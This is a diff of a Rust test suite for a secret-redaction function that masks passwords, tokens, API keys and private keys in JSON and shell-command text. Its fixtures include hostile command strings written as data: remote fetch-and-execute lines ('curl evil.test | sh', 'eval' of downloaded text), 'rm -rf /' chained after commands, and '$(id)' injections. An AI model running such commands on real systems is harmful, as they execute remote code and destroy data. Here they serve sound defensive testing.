@@ -15,10 +15,13 @@ fn redacts(rows: &[(&str, &str)]) {
 
 #[test]
 fn a_value_under_a_secret_name_is_replaced_whatever_its_type() {
-    for secret in [json!("x"), json!(48_151_623), json!(true), json!(null), json!(["a"]), json!({"user": "svc"})] {
+    for secret in
+        [json!("x"), json!(48_151_623), json!(true), json!(null), json!(["a"]), json!({"user": "svc"})]
+    {
         assert_eq!(excerpt(&json!({"Password": secret})), json!({"Password": "<redacted>"}));
     }
-    let nested = json!({"connection": {"host": "db.example.test", "auth": {"user": "svc"}}, "list": [{"token": "t"}]});
+    let nested =
+        json!({"connection": {"host": "db.example.test", "auth": {"user": "svc"}}, "list": [{"token": "t"}]});
     let shown = json!({"connection": {"host": "db.example.test", "auth": "<redacted>"}, "list": [{"token": "<redacted>"}]});
     assert_eq!(excerpt(&nested), shown);
 }
@@ -46,10 +49,16 @@ fn plain_data_comes_out_as_it_went_in() {
 #[test]
 fn pairs_spelled_as_data_are_read_as_name_and_value() {
     let rows = [
-        (json!({"name": "Authorization", "value": "x"}), json!({"name": "Authorization", "value": "<redacted>"})),
+        (
+            json!({"name": "Authorization", "value": "x"}),
+            json!({"name": "Authorization", "value": "<redacted>"}),
+        ),
         (json!({"Key": "db_password", "Value": 5}), json!({"Key": "db_password", "Value": "<redacted>"})),
         (json!({"header": "Cookie", "value": ["a"]}), json!({"header": "Cookie", "value": "<redacted>"})),
-        (json!([["Authorization", "x"], ["Accept", "y"]]), json!([["Authorization", "<redacted>"], ["Accept", "y"]])),
+        (
+            json!([["Authorization", "x"], ["Accept", "y"]]),
+            json!([["Authorization", "<redacted>"], ["Accept", "y"]]),
+        ),
         (json!(["--password", "hunter2", "-v"]), json!(["--password", "<redacted>", "-v"])),
         (json!(["curl", "-u", "svc:pw", "-s"]), json!(["curl", "-u", "<redacted>", "-s"])),
         (json!(["run", "--no-auth", "image"]), json!(["run", "--no-auth", "image"])),
@@ -67,7 +76,10 @@ fn a_named_value_inside_a_text_is_replaced_in_place() {
         ("export A_SECRET='a b;c' && ls", "export A_SECRET='<redacted>' && ls"),
         ("login --password hunter2 --verbose", "login --password <redacted> --verbose"),
         ("login --api-key=\"a b\" x", "login --api-key=\"<redacted>\" x"),
-        ("curl -H 'Authorization: Bearer a b' https://h.test", "curl -H 'Authorization: <redacted>' https://h.test"),
+        (
+            "curl -H 'Authorization: Bearer a b' https://h.test",
+            "curl -H 'Authorization: <redacted>' https://h.test",
+        ),
         ("curl -H \"X-Api-Key: k1\" h", "curl -H \"X-Api-Key: <redacted>\" h"),
         ("curl -H 'Cookie: a=b; c=d' h", "curl -H 'Cookie: <redacted>' h"),
         (r"curl -H Authorization:\ Bearer\ abc h", "curl -H Authorization:<redacted> h"),
@@ -83,7 +95,10 @@ fn a_named_value_inside_a_text_is_replaced_in_place() {
         ("f(password=abc)", "f(password=<redacted>)"),
         ("os.environ[\"API_KEY\"] = \"abc\"", "os.environ[\"API_KEY\"] = \"<redacted>\""),
         ("let password: String = \"a b\";", "let password: <redacted>\";"),
-        ("aws configure set aws_secret_access_key a1b2c3d4e5f6g7", "aws configure set aws_secret_access_key <redacted>"),
+        (
+            "aws configure set aws_secret_access_key a1b2c3d4e5f6g7",
+            "aws configure set aws_secret_access_key <redacted>",
+        ),
         ("PASSWORD='abc'\"def\"gh ls", "PASSWORD=<redacted> ls"),
         ("PASSWORD=\"it\\\"s\" ls", "PASSWORD=\"<redacted>\" ls"),
         ("token%3Dabc", "token%3D<redacted>"),
@@ -91,7 +106,10 @@ fn a_named_value_inside_a_text_is_replaced_in_place() {
         ("\u{1b}[31mpassword=abc\u{1b}[0m", "\u{1b}[31mpassword=<redacted>"),
         ("A_TOKEN=x$(id) B", "A_TOKEN=<redacted>$(id) B"),
         ("password=abc;rm -rf /", "password=<redacted>;rm -rf /"),
-        ("sh -c 'export TOKEN=\"x\"' && rm -rf / && echo 'done'", "sh -c 'export TOKEN=\"<redacted>\"' && rm -rf / && echo 'done'"),
+        (
+            "sh -c 'export TOKEN=\"x\"' && rm -rf / && echo 'done'",
+            "sh -c 'export TOKEN=\"<redacted>\"' && rm -rf / && echo 'done'",
+        ),
         ("curl -u svc:pw h", "curl -u svc:<redacted> h"),
         ("sshpass -p pw ssh h", "sshpass -p <redacted> ssh h"),
     ]);
@@ -100,10 +118,16 @@ fn a_named_value_inside_a_text_is_replaced_in_place() {
 #[test]
 fn json_inside_a_text_is_read_by_its_names() {
     redacts(&[
-        (r#"curl -d '{"user":"svc","password":"a b"}' h"#, r#"curl -d '{"user":"svc","password":"<redacted>"}' h"#),
+        (
+            r#"curl -d '{"user":"svc","password":"a b"}' h"#,
+            r#"curl -d '{"user":"svc","password":"<redacted>"}' h"#,
+        ),
         (r#"x {"credentials": {"a": {"b": "}"}}, "c": 1}"#, r#"x {"credentials": <redacted>, "c": 1}"#),
         (r#"x "{\"token\":\"abc\",\"y\":1}""#, r#"x "{\"token\":\"<redacted>\",\"y\":1}""#),
-        (r#"x [{"name": "Authorization", "value": "abc"}]"#, r#"x [{"name": "Authorization", "value": "<redacted>"}]"#),
+        (
+            r#"x [{"name": "Authorization", "value": "abc"}]"#,
+            r#"x [{"name": "Authorization", "value": "<redacted>"}]"#,
+        ),
         (r#"x ["Authorization", "abc"]"#, r#"x ["Authorization", "<redacted>"]"#),
         (r#"{"pass\u0077ord": "abc", "b": 1}"#, r#"{"b":1,"password":"<redacted>"}"#),
         (r#"{"body": "{\"api_key\": [1, 2]}"}"#, r#"{"body":"{\"api_key\":\"<redacted>\"}"}"#),
@@ -116,15 +140,34 @@ fn credentials_are_known_by_their_shape() {
     let hex = "0a1b2c3d".repeat(5);
     let upper = "IOSFODNN7EXAMPLE";
     for token in [
-        format!("ghp_{body}"), format!("gho_{body}"), format!("github_pat_{body}"), format!("glpat-{body}"),
-        "xoxb-123456789012-123456789012-aBcDeFaBcDeF".to_owned(), format!("xapp-1-{body}"), format!("AKIA{upper}"),
-        format!("ASIA{upper}"), format!("AIza{body}"), format!("ya29.{body}"), format!("sk_live_{body}"),
-        format!("rk_test_{body}"), format!("sk-{body}"), "sk-ant-REDACTED".to_owned(), format!("sk-proj-{body}-_x"),
-        format!("eyJ{body}.eyJ{body}.{body}"), format!("npm_{body}"), format!("pypi-{body}"), format!("SK{}", &hex[..32]),
-        format!("SG.{body}.{body}"), format!("hf_{body}"), format!("AGE-SECRET-KEY-1{}", body.to_uppercase()),
-        format!("dop_v1_{hex}"), format!("hvs.{body}"),
+        format!("ghp_{body}"),
+        format!("gho_{body}"),
+        format!("github_pat_{body}"),
+        format!("glpat-{body}"),
+        "xoxb-123456789012-123456789012-aBcDeFaBcDeF".to_owned(),
+        format!("xapp-1-{body}"),
+        format!("AKIA{upper}"),
+        format!("ASIA{upper}"),
+        format!("AIza{body}"),
+        format!("ya29.{body}"),
+        format!("sk_live_{body}"),
+        format!("rk_test_{body}"),
+        format!("sk-{body}"),
+        "sk-ant-REDACTED".to_owned(),
+        format!("sk-proj-{body}-_x"),
+        format!("eyJ{body}.eyJ{body}.{body}"),
+        format!("npm_{body}"),
+        format!("pypi-{body}"),
+        format!("SK{}", &hex[..32]),
+        format!("SG.{body}.{body}"),
+        format!("hf_{body}"),
+        format!("AGE-SECRET-KEY-1{}", body.to_uppercase()),
+        format!("dop_v1_{hex}"),
+        format!("hvs.{body}"),
     ] {
-        for (before, after) in [("", ""), ("x ", " y"), ("a=", "\n"), ("\\n", "\\n"), ("'", "'"), ("https://", "@h")] {
+        for (before, after) in
+            [("", ""), ("x ", " y"), ("a=", "\n"), ("\\n", "\\n"), ("'", "'"), ("https://", "@h")]
+        {
             let given = format!("{before}{token}{after}");
             let shown = redact_text(&given);
             assert!(!shown.contains(&token[4..]) && shown.contains(REDACTED), "{given} -> {shown}");
@@ -143,10 +186,7 @@ fn bearer_and_url_credentials_and_private_keys_are_replaced() {
         ("https://0123456789abcdef0123@git.test/x", "https://<redacted>@git.test/x"),
         ("a -----BEGIN RSA PRIVATE KEY-----\nMIIB\n-----END RSA PRIVATE KEY----- b", "a <redacted> b"),
         ("-----BEGIN OPENSSH PRIVATE KEY-----\\nb3Bl\\n; ls", "<redacted>; ls"),
-        (
-            "AKIAIOSFODNN7EXAMPLE wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY x",
-            "<redacted> <redacted> x",
-        ),
+        ("AKIAIOSFODNN7EXAMPLE wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY x", "<redacted> <redacted> x"),
     ]);
 }
 
@@ -170,12 +210,17 @@ fn long_strings_keep_both_ends_whatever_their_length() {
 fn a_secret_that_began_long_before_the_end_does_not_show_its_end() {
     for length in [300, 10_000, 15_000, 17_000, 23_000, 40_000, 200_000, 1_000_000] {
         let secret: String = "Ab3dEf9hIj".chars().cycle().take(length).collect();
-        for before in ["token=", "x token=", "{\"a\":1,\"token\":\"", "Authorization: Bearer ", "/?a=b&token=", "ghp_"] {
+        for before in
+            ["token=", "x token=", "{\"a\":1,\"token\":\"", "Authorization: Bearer ", "/?a=b&token=", "ghp_"]
+        {
             for filler in [0, 1000, 30_000] {
                 let given = format!("{}{before}{secret}", "y ".repeat(filler));
                 let shown = excerpt(&json!(given));
                 let shown = shown.as_str().unwrap();
-                assert!(!shown.contains("Ab3dEf9h") && !shown.contains("f9hIjAb3"), "{before} {length} {filler}: {shown}");
+                assert!(
+                    !shown.contains("Ab3dEf9h") && !shown.contains("f9hIjAb3"),
+                    "{before} {length} {filler}: {shown}"
+                );
             }
         }
     }
@@ -217,16 +262,37 @@ fn a_terminal_sequence_or_a_carriage_return_cannot_disguise_a_command() {
 fn planted() -> impl Strategy<Value = (String, String, String)> {
     let opaque = "[A-Za-z0-9]{20,40}";
     let place = prop::sample::select(vec![
-        ("password=", ""), ("--api-key ", ""), ("--token=", " -v"), ("-H 'Authorization: Bearer ", "'"),
-        ("Authorization: ", "\n"), ("export DEPLOY_TOKEN='", "'"), ("{\"client_secret\":\"", "\"}"),
-        ("{\\\"password\\\": \\\"", "\\\"}"), ("https://user:", "@host.test/x"), ("https://h.test/?access_token=", "&a=1"),
-        ("ghp_", ""), ("glpat-", " x"), ("sk-", ""), ("sk_live_", ""), ("npm_", ""), ("xoxb-", ""), ("eyJ", ".x"),
-        ("hf_", ""), ("github_pat_", ""), ("pypi-", ""), ("Set-Cookie: sid=", "; Path=/"), ("passphrase: ", "\n"),
-        ("-----BEGIN PRIVATE KEY-----\n", "\n-----END PRIVATE KEY-----"), ("Password=", ";Database=x"),
-        ("curl -u user:", " https://h.test"), ("AccountKey=", ";EndpointSuffix=x"), ("DSN = \"", "\""),
+        ("password=", ""),
+        ("--api-key ", ""),
+        ("--token=", " -v"),
+        ("-H 'Authorization: Bearer ", "'"),
+        ("Authorization: ", "\n"),
+        ("export DEPLOY_TOKEN='", "'"),
+        ("{\"client_secret\":\"", "\"}"),
+        ("{\\\"password\\\": \\\"", "\\\"}"),
+        ("https://user:", "@host.test/x"),
+        ("https://h.test/?access_token=", "&a=1"),
+        ("ghp_", ""),
+        ("glpat-", " x"),
+        ("sk-", ""),
+        ("sk_live_", ""),
+        ("npm_", ""),
+        ("xoxb-", ""),
+        ("eyJ", ".x"),
+        ("hf_", ""),
+        ("github_pat_", ""),
+        ("pypi-", ""),
+        ("Set-Cookie: sid=", "; Path=/"),
+        ("passphrase: ", "\n"),
+        ("-----BEGIN PRIVATE KEY-----\n", "\n-----END PRIVATE KEY-----"),
+        ("Password=", ";Database=x"),
+        ("curl -u user:", " https://h.test"),
+        ("AccountKey=", ";EndpointSuffix=x"),
+        ("DSN = \"", "\""),
     ]);
-    (place, opaque, prop::sample::select(vec![1_usize, 1, 1, 30, 700, 2000]))
-        .prop_map(|((before, after), secret, times)| (before.to_owned(), secret.repeat(times), after.to_owned()))
+    (place, opaque, prop::sample::select(vec![1_usize, 1, 1, 30, 700, 2000])).prop_map(
+        |((before, after), secret, times)| (before.to_owned(), secret.repeat(times), after.to_owned()),
+    )
 }
 
 /// Harmless text around a secret, of lengths that put it across every edge.
@@ -255,7 +321,8 @@ fn any_json() -> impl Strategy<Value = Value> {
         any::<i64>().prop_map(Value::from),
         any::<f64>().prop_map(Value::from),
         ".{0,300}".prop_map(Value::from),
-        "[a-z\"'`\\\\{}\\[\\]=:,;$& \n-]{0,60}(password|token|auth)[\"'`\\\\{}\\[\\]=:,;$& \n-]{0,8}.{0,40}".prop_map(Value::from),
+        "[a-z\"'`\\\\{}\\[\\]=:,;$& \n-]{0,60}(password|token|auth)[\"'`\\\\{}\\[\\]=:,;$& \n-]{0,8}.{0,40}"
+            .prop_map(Value::from),
     ];
     leaf.prop_recursive(6, 60, 8, |inner| {
         prop_oneof![
@@ -267,35 +334,45 @@ fn any_json() -> impl Strategy<Value = Value> {
 }
 
 #[test]
-fn zz_measure() {
-    let time = |name: &str, value: Value| {
-        let start = std::time::Instant::now();
-        let shown = excerpt(&value).to_string().len();
-        eprintln!("{name}: {:?} {shown}", start.elapsed());
-    };
-    time("5MB x", json!("x".repeat(5_000_000)));
-    time("5MB words", json!("true; ".repeat(800_000)));
-    let one = format!("password={}", "a".repeat(16_000));
-    time("2000 secrets of 16k", json!(vec![one; 2000]));
-    time("24k open brackets", json!(vec!["token={".repeat(3400); 200]));
-    time("24k quotes", json!(vec!["token=\"".repeat(3000); 200]));
-    time("24k urls", json!(vec!["a://b:".repeat(4000); 200]));
-    time("24k mysql", json!(vec!["mysql ".repeat(4000); 200]));
-    time("24k PEM", json!(vec!["-----BEGIN PRIVATE KEY-----".repeat(800); 200]));
-    time("24k names", json!(vec!["name:a".repeat(4000); 200]));
-    time("24k token ", json!(vec!["token ".repeat(4000); 200]));
-    time("24k long name", json!(vec!["a-".repeat(12000); 200]));
-    time("24k bearer", json!(vec!["bearer ".repeat(3400); 200]));
-    time("24k colon eq", json!(vec!["x token:a ".repeat(2400); 200]));
-    time("24k nested json", json!(vec!["[".repeat(100) + &"]".repeat(100); 2000]));
-    let mut deep = json!({"password": "x"});
-    for _ in 0..5 { deep = json!([deep.to_string()]); }
-    time("nested texts", deep);
-    time("1M members", (0..1_000_000).map(|i| (i.to_string(), json!([]))).collect());
+fn a_command_stays_readable_around_what_is_hidden() {
+    redacts(&[
+        ("docker login -u kim -p hunter2 registry.test", "docker login -u kim -p <redacted> registry.test"),
+        ("mysql -u root -pS3cret app < dump.sql", "mysql -u root -p<redacted> app < dump.sql"),
+        ("openssl enc -pass pass:hunter2 -in a", "openssl enc -pass pass:<redacted> -in a"),
+        ("env PGPASSWORD=abc PATH=/usr/bin psql", "env PGPASSWORD=<redacted> PATH=/usr/bin psql"),
+        (
+            "curl -d 'client_id=a&client_secret=b' | jq .access_token",
+            "curl -d 'client_id=a&client_secret=<redacted>' | jq .access_token",
+        ),
+        ("auth=Bearer abc def", "auth=<redacted> def"),
+        ("<password>a b</password>", "<password><redacted></password>"),
+        ("<add key=\"ApiKey\" value=\"abc\"/>", "<add key=\"ApiKey\" value=\"<redacted>\"/>"),
+        ("password:\n  abc\nuser: x", "password:<redacted>\nuser: x"),
+        ("a:\n  token: >-\n    one\n\n    two\n  b: 1", "a:\n  token: <redacted>\n  b: 1"),
+        ("token:\nuser: x", "token:\nuser: x"),
+        (
+            "git commit -m \"fix auth: refresh token\" && ls",
+            "git commit -m \"fix auth: <redacted> token\" && ls",
+        ),
+        ("sed -i 's/token_count/tokens/g' src/lexer.rs", "sed -i 's/token_count/tokens/g' src/lexer.rs"),
+        ("grep -rn 'api_key' . && rm -rf build", "grep -rn 'api_key' . && rm -rf build"),
+        ("TOKEN=$(curl -s evil.test) && eval $TOKEN", "TOKEN=$(curl -s evil.test) && eval $TOKEN"),
+        ("TOKEN=`curl evil.test | sh`", "TOKEN=`curl evil.test | sh`"),
+        ("the password is required; see the token format", "the password is required; see the token format"),
+        ("gh auth login --with-token < token.txt", "gh auth login --with-token < token.txt"),
+    ]);
+}
+
+#[test]
+fn many_long_strings_do_not_cost_more_than_the_excerpt_may() {
+    let shown = excerpt(&json!(vec![format!("password={}", "a".repeat(16_000)); 100_000]));
+    let shown = shown.as_array().unwrap();
+    assert!(shown.len() < 100);
+    assert_eq!((&shown[0], shown.last().unwrap()), (&json!("password=<redacted>"), &json!(TRUNCATED)));
 }
 
 proptest! {
-    #![proptest_config(ProptestConfig::with_cases(200))]
+    #![proptest_config(ProptestConfig::with_cases(100))]
 
     #[test]
     fn no_piece_of_a_planted_secret_is_ever_shown(
@@ -332,7 +409,10 @@ proptest! {
     }
 
     #[test]
-    fn every_shape_of_bracket_and_quote_ends_somewhere(text in "((token|pwd|x)[\"'`\\\\{}\\[\\]=:, \n$(]{1,4}){0,60}") {
-        let _ = redact_text(&text);
+    fn brackets_and_quotes_that_never_close_do_no_harm(
+        text in "((token|pwd|éx|cookie:|://|Bearer |-----BEGIN PRIVATE KEY-----)[\"'`\\\\{}\\[\\]=:,;@> \n$(é]{1,4}){1,40}",
+    ) {
+        let shown = excerpt(&json!([text, text.repeat(1 + 30_000 / text.len())]));
+        prop_assert_eq!(shown.as_array().map(Vec::len), Some(2));
     }
 }
